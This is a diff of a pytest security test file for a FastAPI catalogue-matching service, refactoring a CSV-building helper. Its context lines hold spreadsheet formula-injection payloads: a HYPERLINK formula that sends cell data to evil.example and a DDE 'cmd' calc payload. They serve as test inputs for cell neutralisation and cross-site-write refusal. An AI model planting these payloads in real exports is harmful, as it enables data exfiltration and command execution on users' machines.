@@ -17,7 +17,7 @@ import pytest
 from fastapi.testclient import TestClient
 
 from retrieval.match.batch import as_csv, done_products, spreadsheet_safe
-from tests.conftest import SAMPLE, wait_for_job
+from tests.conftest import SAMPLE, catalogue_csv, wait_for_job
 
 PHOTOS = SAMPLE.parent / "images"
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\tx", "\rx"]
@@ -31,19 +31,11 @@ def _zip(files: dict[str, bytes]) -> bytes:
     return buffer.getvalue()
 
 
-def _feed(rows: list[dict[str, str]]) -> bytes:
-    out = io.StringIO()
-    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
-    writer.writeheader()
-    writer.writerows(rows)
-    return out.getvalue().encode()
-
-
 # --- cross-site writes, Host, headers ---
 
 
 def test_a_write_from_another_sites_page_is_refused_with_or_without_a_key(client: TestClient) -> None:
-    feed = _feed([{"id": "x1", "retailer": "r", "title": "Cross-site product"}])
+    feed = catalogue_csv([{"id": "x1", "retailer": "r", "title": "Cross-site product"}])
     for headers in (
         {"Origin": "http://attacker.example"},
         {"Origin": "null"},
@@ -125,7 +117,7 @@ def test_the_match_job_csv_neutralises_catalogue_cells(client: TestClient) -> No
         for retailer in ("formula-a", "formula-b")
     ]
     job = wait_for_job(
-        client, client.post("/catalogues/formulas/ingest", files={"file": ("f.csv", _feed(rows))}).json()["id"]
+        client, client.post("/catalogues/formulas/ingest", files={"file": ("f.csv", catalogue_csv(rows))}).json()["id"]
     )
     assert job["status"] == "done", job
     submitted = client.post("/catalogues/formulas/match-jobs", json={"retailer": "formula-a"})
@@ -172,7 +164,7 @@ def test_ids_and_retailers_with_slashes_and_url_characters_work_on_every_route(c
 
 @pytest.mark.parametrize("name", ["edge.lock", "ENGINE", "engine", "meta.json", "collection", "grocery."])
 def test_catalogue_names_that_are_the_stores_own_files_are_refused(client: TestClient, name: str) -> None:
-    feed = _feed([{"id": "n1", "retailer": "r", "title": "Named product"}])
+    feed = catalogue_csv([{"id": "n1", "retailer": "r", "title": "Named product"}])
     refused = client.post(f"/catalogues/{name}/ingest", files={"file": ("f.csv", feed)})
     assert refused.status_code == 422, refused.text
     assert "/" not in refused.json()["detail"]  # no server path
